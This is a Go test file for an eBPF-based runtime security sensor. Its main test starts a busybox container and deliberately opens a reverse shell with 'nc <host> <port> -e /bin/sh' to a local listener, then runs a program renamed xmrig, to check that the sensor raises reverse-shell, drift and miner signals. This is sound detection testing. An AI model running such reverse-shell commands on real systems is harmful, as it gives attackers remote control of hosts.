package app

import (
	"archive/tar"
	"bytes"
	"cmp"
	"net"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sasumata/sasumata/internal/config"
	"github.com/sasumata/sasumata/internal/document"
	"github.com/sasumata/sasumata/internal/sensor"
	"github.com/sasumata/sasumata/internal/signal"
)

// foundSignals are the signals that a server opened.
type foundSignals struct {
	mu  sync.Mutex
	all []signal.Signal
}

func (o *foundSignals) see(f signal.Finding) error {
	o.mu.Lock()
	defer o.mu.Unlock()
	if f.Change == signal.Opened {
		o.all = append(o.all, *f.Signal)
	}
	return nil
}

// of returns the signals of a rule.
func (o *foundSignals) of(rule string) []signal.Signal {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.DeleteFunc(slices.Clone(o.all), func(s signal.Signal) bool { return s.RuleID != rule })
}

// sensingServer runs a server with a sensor.
func sensingServer(t *testing.T, mode sensor.Way) (*Server, *foundSignals, func()) {
	t.Helper()
	probe := sensor.Probe(t.Context(), string(mode), nil)
	if state := probe.State(mode); !state.Usable {
		t.Skipf("SKIPPED: the sensor %s cannot be tried on this machine: %s", mode, state.Why)
	}
	found := &foundSignals{}
	opts := serveOptions(t.TempDir())
	opts.Config.Sensor = &sensor.Config{Mode: string(mode)}
	if faults := opts.Config.Sensor.Check(document.Pos{}); len(faults) > 0 {
		t.Fatal(faults)
	}
	opts.Console = found.see
	s, stop := serving(t, opts)
	eventually(t, "the sensor", func() bool {
		s.sensing.mu.Lock()
		defer s.sensing.mu.Unlock()
		return s.sensing.at != nil
	})
	return s, found, stop
}

// engineAddress is where the engine of the tests listens.
func engineAddress() string {
	return cmp.Or(os.Getenv("SASUMATA_DOCKER"), "unix:///run/docker.sock")
}

// inContainerOf starts a container of busybox and nothing else.
func inContainerOf(t *testing.T) (id string, run func(args ...string) string) {
	t.Helper()
	address := engineAddress()
	conn, err := net.DialTimeout("unix", strings.TrimPrefix(address, "unix://"), time.Second)
	if err != nil {
		t.Skipf("SKIPPED: no Docker engine runs here: %v (SASUMATA_DOCKER names one)", err)
	}
	_ = conn.Close() // it was only knocked at
	binary, err := os.ReadFile("/bin/busybox")
	if err != nil {
		t.Skip("SKIPPED: there is no /bin/busybox to make an image of (busybox-static)")
	}
	if _, err := exec.LookPath("docker"); err != nil {
		t.Skip("SKIPPED: there is no command docker")
	}
	docker := func(in *bytes.Buffer, args ...string) string {
		t.Helper()
		command := exec.Command("docker", append([]string{"-H", address}, args...)...)
		if in != nil {
			command.Stdin = in
		}
		out, err := command.CombinedOutput()
		if err != nil {
			t.Fatalf("docker %s: %v: %s", strings.Join(args, " "), err, out)
		}
		return strings.TrimSpace(string(out))
	}
	var files bytes.Buffer
	w := tar.NewWriter(&files)
	for _, h := range []tar.Header{
		{Name: "bin/", Typeflag: tar.TypeDir, Mode: 0o755},
		{Name: "tmp/", Typeflag: tar.TypeDir, Mode: 0o777},
		{Name: "bin/busybox", Mode: 0o755, Size: int64(len(binary))},
	} {
		if err := w.WriteHeader(&h); err != nil {
			t.Fatal(err)
		}
		if h.Size > 0 {
			if _, err := w.Write(binary); err != nil {
				t.Fatal(err)
			}
		}
	}
	for _, name := range []string{"sh", "nc", "sleep", "wget", "cp", "cat"} {
		if err := w.WriteHeader(&tar.Header{Name: "bin/" + name, Typeflag: tar.TypeSymlink, Linkname: "busybox", Mode: 0o777}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	const image = "sasumata-sensor-serve:1"
	docker(&files, "import", "-", image)
	id = docker(nil, "run", "-d", "--label", "sasumata-sensor", image, "/bin/sh", "-c", "while true; do sleep 1; done")
	t.Cleanup(func() { docker(nil, "rm", "-f", id) })
	return id, func(args ...string) string { return docker(nil, args...) }
}

// TestReverseShellIsFound provokes what the rules about processes are for, in a container, and
// has none of it on what happens on a normal day.
func TestReverseShellIsFound(t *testing.T) {
	s, found, stop := sensingServer(t, sensor.EBPF)
	defer stop()
	id, docker := inContainerOf(t)
	quiet := func() []string {
		var rules []string
		found.mu.Lock()
		defer found.mu.Unlock()
		for i := range found.all {
			one := &found.all[i]
			if strings.Contains(one.Runbook, "runtime/") && slices.ContainsFunc(one.Group, func(g signal.GroupValue) bool { return g.Value == id }) {
				rules = append(rules, one.RuleID+": "+one.Message)
			}
		}
		return rules
	}
	// What is normal: a health check, a job, a file.
	for range 3 {
		docker("exec", id, "/bin/sh", "-c", "wget -q -O /dev/null http://127.0.0.1:1/ || true")
	}
	docker("exec", id, "/bin/sh", "-c", "echo x > /tmp/state; cat /tmp/state")
	if out := quiet(); len(out) > 0 {
		t.Errorf("not quiet on what is normal: %v", out)
	}

	listener, err := net.Listen("tcp4", gateway(t)+":0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	_, port, err := net.SplitHostPort(listener.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	began := time.Now()
	docker("exec", "-d", id, "/bin/nc", gateway(t), port, "-e", "/bin/sh")
	conn, err := listener.Accept()
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	connected := time.Now()
	eventually(t, "the signal of the reverse shell", func() bool { return len(found.of("reverse_shell")) > 0 })
	took := time.Since(connected)
	one := found.of("reverse_shell")[0]
	t.Logf("the signal opened %s after the connection, %s after docker exec", took, time.Since(began))
	if one.Severity != signal.Critical || !slices.ContainsFunc(one.Group, func(g signal.GroupValue) bool { return g.Value == id }) || took > 2*time.Second {
		t.Errorf("after %s: %s %+v", took, one.Severity, one.Group)
	}
	docker("exec", id, "/bin/sh", "-c", "cp /bin/busybox /tmp/xmrig; /tmp/xmrig || true")
	eventually(t, "the signal of the program", func() bool { return len(found.of("drifted_program")) > 0 && len(found.of("miner")) > 0 })

	var metrics bytes.Buffer
	if err := s.writeMetrics(&metrics); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`sasumata_sensor_active{way="ebpf",why="",fix=""} 1`, `sasumata_sensor_lost_total{event="exec"} 0`, `sasumata_source_records_total{source="sensor",kind="sensor"}`} {
		if !strings.Contains(metrics.String(), want) {
			t.Errorf("metrics lack %s", want)
		}
	}
}

// gateway returns the address of this machine in the network of containers.
func gateway(t *testing.T) string {
	t.Helper()
	one, err := net.InterfaceByName("docker0")
	if err != nil {
		t.Skipf("SKIPPED: there is no docker0: %v", err)
	}
	all, err := one.Addrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range all {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil {
			return n.IP.String()
		}
	}
	t.Skip("SKIPPED: docker0 has no address")
	return ""
}

// TestSensorThatCannotRun is no end of the server: it is told.
func TestSensorThatCannotRun(t *testing.T) {
	opts := serveOptions(t.TempDir())
	opts.Config.Sensor = &sensor.Config{Mode: "none"} // no way has this name
	s, stop := serving(t, opts)
	eventually(t, "the error", func() bool {
		s.sensing.mu.Lock()
		defer s.sensing.mu.Unlock()
		return s.sensing.err != nil
	})
	w := troubleWatch{server: s}
	all := w.sensing()
	if len(all) != 1 || all[0].rule != "sasumata_sensor_failed" || !strings.Contains(all[0].message[0], "ebpf: ") {
		t.Errorf("got %+v", all)
	}
	stop()
	if all := w.sensing(); len(all) != 0 {
		t.Errorf("nobody wants it any more: %+v", all)
	}
}

func TestSensorIsConfigured(t *testing.T) {
	f := func(text string, watches bool) {
		t.Helper()
		c, err := config.Parse("c.yaml", []byte(text))
		if err != nil {
			t.Fatal(err)
		}
		if got := len((&Server{}).sensorInput(c)) > 0; got != watches {
			t.Errorf("%q: %v, want %v", text, got, watches)
		}
	}
	f("data: /tmp", false)
	f("sensor: {}", true)
	f("sensor:", true)
	f("sensor: {mode: off}", false)
	f("sensor: {mode: proc}", true)
	if _, err := config.Parse("c.yaml", []byte("sensor: {mod: ebpf, events: [exce]}")); err == nil || strings.Count(err.Error(), "c.yaml:1:") != 2 {
		t.Errorf("got %v", err)
	}
}
